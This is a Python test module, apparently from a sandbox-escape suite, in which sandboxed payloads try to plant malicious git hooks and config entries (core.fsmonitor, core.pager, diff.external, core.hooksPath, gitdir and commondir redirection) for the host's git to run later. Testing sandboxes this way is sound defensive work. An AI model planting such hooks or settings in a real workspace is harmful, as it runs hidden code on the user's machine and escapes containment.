"""Leaving something in the workspace that the person's own git runs later, outside."""

from __future__ import annotations

import os
from collections.abc import Callable

from tests.escape.attack import attack
from tests.escape.inside import Box
from tests.escape.promises import P
from tests.escape.repositories import HOOKS, Project, evil_configuration
from tests.escape.world import World

PLANT = "plant .git/hooks"
CONFIG = "plant .git/config"


def plants(row: str) -> Callable[[Callable[..., object]], object]:
    """Makes an attack of a payload that gets the top, the hooks' names, the script, the settings."""

    def made(payload: Callable[..., object]) -> object:
        def attempt(world: World, box: Box) -> str:
            project = Project(world)
            evil = str(project.evil)
            told = box.call(payload, project.top, HOOKS, evil, evil_configuration(evil))
            return project.obeyed(*[project.top / name for name in told.value or []])

        attempt.__name__ = payload.__name__
        return attack(P.PLANTING, row)(attempt)

    return made


@plants(PLANT)
def write_hooks(top, hooks, evil, settings):
    import shutil

    for place in (".git", "vendor/lib/.git", ".git/worktrees/feature"):
        os.makedirs(f"{top}/{place}/hooks", exist_ok=True)
        for name in hooks:
            try:
                shutil.copy(evil, f"{top}/{place}/hooks/{name}")
            except OSError:
                continue


@plants(PLANT)
def link_hooks(top, hooks, evil, settings):
    for place in (".git", "vendor/lib/.git"):
        for name in hooks:
            for way in (os.symlink, os.link):
                try:
                    way(evil, f"{top}/{place}/hooks/{name}")
                except OSError:
                    continue


@plants(PLANT)
def rename_hooks_into_place(top, hooks, evil, settings):
    import shutil

    for place in (".git", "vendor/lib/.git"):
        os.mkdir(f"{top}/{place}/new")
        for name in hooks:
            shutil.copy(evil, f"{top}/{place}/new/{name}")
        for before, after in (("hooks", "old"), ("new", "hooks")):
            try:
                os.rename(f"{top}/{place}/{before}", f"{top}/{place}/{after}")
            except OSError:
                continue


@plants(PLANT)
def replace_the_whole_repository(top, hooks, evil, settings):
    """`mv .git x; cp -r x .git`: the copy has no mount on it."""
    import shutil

    for place in (top, f"{top}/vendor/lib"):
        for name in (".git",):
            try:
                shutil.copytree(f"{place}/{name}", f"{place}/copy", symlinks=True)
                shutil.copy(evil, f"{place}/copy/hooks/pre-commit")
                with open(f"{place}/copy/config", "a") as file:
                    file.write(settings)
                os.rename(f"{place}/{name}", f"{place}/moved")
                os.rename(f"{place}/copy", f"{place}/{name}")
            except OSError:
                continue


@plants(PLANT)
def replace_the_directory_above(top, hooks, evil, settings):
    """The directory above a repository is moved away, and a copy put in its place."""
    import shutil

    shutil.copytree(f"{top}/vendor", f"{top}/copy", symlinks=True)
    for name in hooks:
        shutil.copy(evil, f"{top}/copy/lib/.git/hooks/{name}")
    os.chmod(f"{top}/copy/lib/.git/config", 0o644)
    with open(f"{top}/copy/lib/.git/config", "a") as file:
        file.write(settings)
    os.rename(f"{top}/vendor", f"{top}/moved")
    os.rename(f"{top}/copy", f"{top}/vendor")


@plants(PLANT)
def point_git_elsewhere(top, hooks, evil, settings):
    """`.git` as a file or a link leads to a repository of the command's own making."""
    import shutil

    for number, place in enumerate(("vendor/lib", "trees/feature", "fresh", "linked")):
        own = f"{top}/data{number}"
        shutil.copytree(f"{top}/vendor/lib/.git", own, symlinks=True)
        with open(f"{own}/config", "w") as file:
            file.write(settings)
        os.makedirs(f"{top}/{place}", exist_ok=True)
        try:
            if os.path.isdir(f"{top}/{place}/.git"):
                os.rename(f"{top}/{place}/.git", f"{top}/{place}/was")
            elif os.path.lexists(f"{top}/{place}/.git"):
                os.unlink(f"{top}/{place}/.git")
            if place == "linked":
                os.symlink(own, f"{top}/{place}/.git")
            else:
                with open(f"{top}/{place}/.git", "w") as file:
                    file.write(f"gitdir: {own}\n")
        except OSError:
            continue
    return ["fresh", "linked"]


@plants(CONFIG)
def write_settings(top, hooks, evil, settings):
    for place in (".git", "vendor/lib/.git", ".git/worktrees/feature"):
        for name in ("config", "config.worktree", "config.lock"):
            try:
                with open(f"{top}/{place}/{name}", "a") as file:
                    file.write(settings)
                if name == "config.lock":
                    os.rename(f"{top}/{place}/config.lock", f"{top}/{place}/config")
            except OSError:
                continue


@plants(CONFIG)
def write_settings_by_git(top, hooks, evil, settings):
    import subprocess

    for place in ("", "vendor/lib", "trees/feature"):
        for key in ("core.fsmonitor", "core.pager", "diff.external"):
            subprocess.run(
                ["git", "-C", f"{top}/{place}", "config", key, evil],
                capture_output=True,
                check=False,
            )


@plants(CONFIG)
def write_settings_through_links(top, hooks, evil, settings):
    for way in (os.link, os.symlink):
        for place in (".git", "vendor/lib/.git"):
            try:
                way(f"{top}/{place}/config", f"{top}/handle")
                with open(f"{top}/handle", "a") as file:
                    file.write(settings)
                os.unlink(f"{top}/handle")
            except OSError:
                continue


@plants(CONFIG)
def lead_a_worktree_elsewhere(top, hooks, evil, settings):
    """A linked worktree finds its settings through a file that says where they are."""
    import shutil

    own = f"{top}/data"
    shutil.copytree(f"{top}/.git", own, symlinks=True)
    with open(f"{own}/config", "w") as file:
        file.write(settings)
    with open(f"{top}/.git/worktrees/feature/commondir", "w") as file:
        file.write(f"{own}\n")


@plants(CONFIG)
def make_a_repository_with_settings(top, hooks, evil, settings):
    """A new repository is honest work; what its settings would run is not."""
    import shutil

    shutil.copytree(f"{top}/vendor/lib/.git", f"{top}/new/.git", symlinks=True)
    with open(f"{top}/new/.git/config", "w") as file:
        file.write(settings)
    return ["new"]


@plants(CONFIG)
def make_a_repository_without_a_name(top, hooks, evil, settings):
    """Git obeys any directory with HEAD, objects and refs, also one that is not called `.git`."""
    import shutil

    for name in ("assets", "."):
        for part in os.listdir(f"{top}/vendor/lib/.git"):
            source, target = f"{top}/vendor/lib/.git/{part}", f"{top}/{name}/{part}"
            os.makedirs(f"{top}/{name}", exist_ok=True)
            if os.path.isdir(source):
                shutil.copytree(source, target, symlinks=True, dirs_exist_ok=True)
            else:
                shutil.copy(source, target)
        with open(f"{top}/{name}/config", "w") as file:
            file.write(settings + "[core]\n\tworktree = .\n")
    os.makedirs(f"{top}/refs/below", exist_ok=True)
    return ["assets", "assets/objects"]


@attack(P.PLANTING, CONFIG)
def change_settings_that_are_included(world: World, box: Box) -> str:
    """The person's settings include a file of the project: `include.path = ../.gitconfig.shared`."""
    project = Project(world)
    shared = project.top / "gitconfig.shared"
    shared.write_text("[core]\n\tabbrev = 12\n")
    project.git(project.top, "config", "include.path", "../gitconfig.shared")
    box.call(_overwrite, shared, evil_configuration(project.evil))
    return project.obeyed()


def _overwrite(path, text):
    import shutil

    if os.path.isdir(path):
        shutil.rmtree(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)


def _hooks_elsewhere(world: World, box: Box, scope: str, *, there: bool) -> str:
    project = Project(world)
    project.git(project.top, "config", scope, "core.hooksPath", ".githooks")
    if there:
        (project.top / ".githooks").mkdir()
        (project.top / ".githooks/commit-msg").write_text("#!/bin/sh\nexit 0\n")
        (project.top / ".githooks/commit-msg").chmod(0o755)
    text = project.evil.read_text()
    for name in ("commit-msg", "pre-commit"):
        box.call(_overwrite, project.top / ".githooks" / name, text)
    return project.obeyed()


@attack(P.PLANTING, PLANT)
def change_hooks_that_live_in_the_project(world: World, box: Box) -> str:
    """`core.hooksPath = .githooks`: hooks that are part of the project."""
    return _hooks_elsewhere(world, box, "--local", there=True)


@attack(P.PLANTING, PLANT)
def make_hooks_that_may_live_in_the_project(world: World, box: Box) -> str:
    """The same, where no hook is there yet."""
    return _hooks_elsewhere(world, box, "--local", there=False)


@attack(P.PLANTING, PLANT)
def change_hooks_that_live_in_every_project(world: World, box: Box) -> str:
    """The person's own settings say so for every repository."""
    return _hooks_elsewhere(world, box, "--global", there=True)
